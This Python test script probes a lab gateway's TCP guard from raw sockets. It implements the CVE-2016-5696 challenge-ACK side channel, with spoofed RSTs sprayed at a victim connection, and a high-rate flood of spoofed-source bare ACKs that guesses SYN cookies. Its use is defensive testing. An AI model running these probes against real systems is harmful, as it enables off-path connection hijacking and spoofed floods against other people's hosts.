#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""Blind-attacker probes for tcp_guard.sh (issue 11 items 2 and 3), from raw
AF_PACKET sockets in mg-client. Frames are built with struct, not scapy, to
reach the rates the probes need; every mode is bounded in time and prints one
line of JSON. The client's kernel must not answer for the hand-made
connections (`iptables -A OUTPUT -p tcp --tcp-flags RST RST -j DROP`).

  sidechannel --gw-mac M --src IP --dst IP:PORT [--rounds 3 --secs 3 --spray 5]
      CVE-2016-5696 as an attacker would run it: two hand-made connections,
      the attacker's and a victim's. Each round lasts --secs; every millisecond
      the attacker sends one RST inside its own window but not at RCV.NXT
      (each asks for an RFC 5961 challenge ACK) and --spray spoofed RSTs at
      the victim's tuple, in the victim's window in "in" rounds, far outside
      it in "out" rounds (alternating). Prints the challenge ACKs each side
      got per round.

  acks --gw-mac M --dst IP:PORT --count N [--rate R --max-seconds S]
      N bare ACKs with random sources (198.18.1.16-250), ports, sequence and
      acknowledgment numbers: what a blind cookie guesser sends. Prints
      {"sent": N, "seconds": S}.
"""

import argparse
import json
import random
import socket
import struct
import sys
import time

from rawframe import csum, mac

ETH_P_IP = 0x0800
F_FIN, F_SYN, F_RST, F_PSH, F_ACK = 0x01, 0x02, 0x04, 0x08, 0x10



def frame(dmac, smac, src, dst, sport, dport, seq, ack, flags, win=65535):
    """Ethernet + IPv4 + 20-byte TCP header, no options, no payload."""
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                      5 << 4, flags, win, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dmac + smac + b"\x08\x00" + ip + tcp


def parse(f):
    """(src, dst, sport, dport, seq, ack, flags, win, payload length) of an
    IPv4/TCP frame, or None."""
    if len(f) < 54 or f[12:14] != b"\x08\x00" or f[23] != 6:
        return None
    ihl = (f[14] & 0xF) * 4
    tot = struct.unpack("!H", f[16:18])[0]
    t = 14 + ihl
    sport, dport, seq, ack, off, flags, win = struct.unpack("!HHIIBBH", f[t:t + 16])
    return (f[26:30], f[30:34], sport, dport, seq, ack, flags, win,
            tot - ihl - (off >> 4) * 4)


class Wire:
    """One socket to send frames, one to read the gateway's (non-blocking)."""

    def __init__(self, a):
        self.tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.tx.bind((a.iface, 0))
        self.rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
        self.rx.bind((a.iface, ETH_P_IP))
        self.rx.setblocking(False)
        self.smac = self.tx.getsockname()[4]
        self.dmac = mac(a.gw_mac)
        self.gw = socket.inet_aton(a.dst_ip)

    def send(self, f):
        while True:
            try:
                self.tx.send(f)
                return
            except OSError:  # ENOBUFS: the qdisc is full; back off a little
                time.sleep(0.0005)

    def drain(self):
        """Segments from the gateway that arrived so far."""
        got = []
        while True:
            try:
                f = self.rx.recv(2048)
            except BlockingIOError:
                return got
            p = parse(f)
            if p and p[0] == self.gw:
                got.append(p)


class Conn:
    """A hand-made connection from src:sport, no options (so no timestamps)."""

    def __init__(self, w, a, sport):
        self.w, self.a, self.sport = w, a, sport
        self.src = socket.inet_aton(a.src)
        self.seq = random.getrandbits(32)
        self.ack = 0
        self.win = 0

    def frame(self, flags, seq=None, ack=None):
        return frame(self.w.dmac, self.w.smac, self.src, self.w.gw, self.sport,
                     self.a.dport, self.seq if seq is None else seq,
                     self.ack if ack is None else ack, flags)

    def handshake(self):
        self.w.drain()
        self.w.send(self.frame(F_SYN))
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline:
            for p in self.w.drain():
                if p[3] == self.sport and p[6] == F_SYN | F_ACK:
                    self.seq = (self.seq + 1) & 0xFFFFFFFF
                    self.ack = (p[4] + 1) & 0xFFFFFFFF
                    self.win = p[7]  # no window scale offered: unscaled
                    self.w.send(self.frame(F_ACK))
                    return
            time.sleep(0.01)
        sys.exit("no SYN-ACK for port %d" % self.sport)

    def rst_in_window(self, i):
        """An RST inside the gateway's receive window, never at RCV.NXT."""
        return self.frame(F_RST, seq=self.seq + 1 + i % (self.win - 2), ack=0)

    def rst_out_of_window(self):
        return self.frame(F_RST, seq=self.seq + (1 << 30), ack=0)

    def is_challenge(self, p):
        """A pure ACK from the gateway that acknowledges exactly RCV.NXT."""
        return p[3] == self.sport and p[6] == F_ACK and p[5] == self.seq and p[8] == 0


def sidechannel(a):
    w = Wire(a)
    atk = Conn(w, a, random.randint(20000, 29999))
    vic = Conn(w, a, random.randint(30000, 39999))
    atk.handshake()
    vic.handshake()
    time.sleep(0.5)
    w.drain()
    rounds = []
    for r in range(2 * a.rounds):
        mode = "in" if r % 2 == 0 else "out"
        got_atk = got_vic = 0
        t0 = time.monotonic()
        i = 0
        # One attacker RST and --spray victim RSTs per millisecond, paced.
        while time.monotonic() - t0 < a.secs:
            if i > (time.monotonic() - t0) * 1000:
                time.sleep(0.0002)
            else:
                for k in range(a.spray):
                    w.send(vic.rst_in_window(i * a.spray + k) if mode == "in"
                           else vic.rst_out_of_window())
                w.send(atk.rst_in_window(i))
                i += 1
            for p in w.drain():
                got_atk += atk.is_challenge(p)
                got_vic += vic.is_challenge(p)
        time.sleep(0.2)  # the last answers are on their way
        for p in w.drain():
            got_atk += atk.is_challenge(p)
            got_vic += vic.is_challenge(p)
        rounds.append({"victim_rsts": mode, "attacker_acks": got_atk,
                       "victim_acks": got_vic, "attacker_rsts": i,
                       "seconds": round(time.monotonic() - t0, 2)})
    w.send(atk.frame(F_RST | F_ACK))
    w.send(vic.frame(F_RST | F_ACK))
    print(json.dumps({"rounds": rounds}), flush=True)


def acks(a):
    """Random bare ACKs at --rate, from a template: only the source address,
    ports and numbers change, and both checksums follow by one's complement
    arithmetic instead of being recomputed over the whole frame."""
    w = Wire(a)
    lo, hi = (int(x) for x in a.src_hosts.split("-"))
    base = struct.unpack("!I", socket.inet_aton(a.src_net))[0]
    tmpl = bytearray(frame(w.dmac, w.smac, b"\0\0\0\0", w.gw, 0, a.dport, 0, 0, F_ACK))
    ip0 = sum(struct.unpack("!10H", bytes(tmpl[14:24]) + b"\0\0" + bytes(tmpl[26:34])))
    tcp_tmpl = bytes(tmpl[34:50]) + b"\0\0" + bytes(tmpl[52:54])
    tcp0 = sum(struct.unpack("!10H", tcp_tmpl)) + sum(struct.unpack("!2H", w.gw)) + 6 + 20
    rnd = random.Random(a.seed)
    t0 = time.monotonic()
    sent = 0
    while sent < a.count:
        el = time.monotonic() - t0
        if el > a.max_seconds:
            break
        if sent > el * a.rate:
            time.sleep(0.0005)
            continue
        for _ in range(min(256, a.count - sent)):
            src = base + rnd.randint(lo, hi)
            sport = rnd.randint(1024, 65535)
            seq = rnd.getrandbits(32)
            ack = rnd.getrandbits(32)
            s = ip0 + (src >> 16) + (src & 0xFFFF)
            s = (s & 0xFFFF) + (s >> 16)
            s = (s & 0xFFFF) + (s >> 16)
            struct.pack_into("!HI", tmpl, 24, ~s & 0xFFFF, src)
            s = tcp0 + (src >> 16) + (src & 0xFFFF) + sport + (seq >> 16) + \
                (seq & 0xFFFF) + (ack >> 16) + (ack & 0xFFFF)
            while s >> 16:
                s = (s & 0xFFFF) + (s >> 16)
            struct.pack_into("!HHII", tmpl, 34, sport, a.dport, seq, ack)
            struct.pack_into("!H", tmpl, 50, ~s & 0xFFFF)
            w.send(tmpl)
            sent += 1
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - t0, 2)}),
          flush=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["sidechannel", "acks"])
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--gw-mac", required=True)
    ap.add_argument("--src", default="198.18.1.2")
    ap.add_argument("--dst", default="198.18.1.1:8080")
    ap.add_argument("--rounds", type=int, default=3)
    ap.add_argument("--secs", type=float, default=3)
    ap.add_argument("--spray", type=int, default=5)
    ap.add_argument("--src-net", default="198.18.1.0")
    ap.add_argument("--src-hosts", default="16-250")
    ap.add_argument("--count", type=int, default=1000000)
    ap.add_argument("--rate", type=int, default=100000)
    ap.add_argument("--max-seconds", type=float, default=55)
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    random.seed(a.seed)
    a.dst_ip, a.dport = a.dst.rsplit(":", 1)[0], int(a.dst.rsplit(":", 1)[1])
    sidechannel(a) if a.mode == "sidechannel" else acks(a)


if __name__ == "__main__":
    main()
